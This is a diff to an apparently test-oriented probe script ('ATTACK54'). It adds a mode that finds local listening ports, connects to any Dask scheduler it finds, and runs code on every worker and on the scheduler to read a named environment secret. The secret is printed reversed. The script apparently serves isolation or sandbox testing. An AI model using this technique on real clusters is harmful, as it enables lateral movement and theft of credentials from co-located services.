@@ -16,6 +16,12 @@ Standard library only. What it tries comes from its environment:
                     prints the ones that answered (`{"ports": [...]}`), after ATTACK54_READ
     ATTACK54_READ   PATH[,PATH...]: reads each path: its first 16 bytes (hex), or the
                     error's name
+    ATTACK54_DASK   NAME: finds the TCP ports of 127.0.0.1 listened on by its own uid
+                    (/proc/net/tcp), tries each that speaks first as a Dask scheduler (the `distributed`
+                    client, 5 s), and on the one that answers runs a function in every
+                    worker and in the scheduler that reads $NAME from their environment:
+                    prints `{"dask": {"tried": N, "scheduler": bool, "found": [...]}}`,
+                    each value found reversed (never the secret itself on stdout)
 """
 
 from __future__ import annotations
@@ -107,6 +113,53 @@ def ports(first: int, last: int) -> list[int]:
     return found
 
 
+def listening() -> list[int]:
+    """The ports of 127.0.0.1 this uid listens on (TCP), as /proc/net/tcp shows them."""
+    found = []
+    with open("/proc/net/tcp", encoding="ascii") as table:
+        for line in table.readlines()[1:]:
+            fields = line.split()
+            address, port = fields[1].split(":")
+            if address == "0100007F" and fields[3] == "0A" and int(fields[7]) == os.getuid():
+                found.append(int(port, 16))
+    return found
+
+
+def speaks_first(port: int) -> bool:
+    """Whether the server at `port` speaks first, as Dask's comm does (its handshake): an
+    HTTP server (the run's own endpoints) waits for the request, and so would the client."""
+    with socket.create_connection(("127.0.0.1", port), timeout=2) as sock:
+        try:
+            return bool(sock.recv(1))
+        except OSError:
+            return False
+
+
+def environ_of(name: str) -> str:
+    """$NAME of the process this runs in, reversed ("" where unset)."""
+    return os.environ.get(name, "")[::-1]
+
+
+def dask(name: str) -> dict[str, object]:
+    """Run `environ_of(name)` in a Dask cluster's workers and scheduler, if one answers."""
+    from distributed import Client
+
+    ports = listening()
+    said: dict[str, object] = {"tried": len(ports), "scheduler": False, "found": []}
+    for port in filter(speaks_first, ports):
+        try:
+            client = Client(f"tcp://127.0.0.1:{port}", timeout=5, set_as_default=False)
+        except Exception:  # not a scheduler
+            continue
+        with client:
+            said["scheduler"] = True
+            found = [*client.run(environ_of, name).values()]
+            found.append(client.run_on_scheduler(environ_of, name))
+            said["found"] = sorted(found)
+        break
+    return said
+
+
 def main() -> None:
     said: dict[str, object] = {}
     folder = os.environ.get("ATTACK54_HANG")
@@ -117,6 +170,8 @@ def main() -> None:
     if "ATTACK54_PORTS" in os.environ:
         first, last = os.environ["ATTACK54_PORTS"].split("-")
         said["ports"] = ports(int(first), int(last))
+    if "ATTACK54_DASK" in os.environ:
+        said["dask"] = dask(os.environ["ATTACK54_DASK"])
     json.dump(said, sys.stdout)
 
 
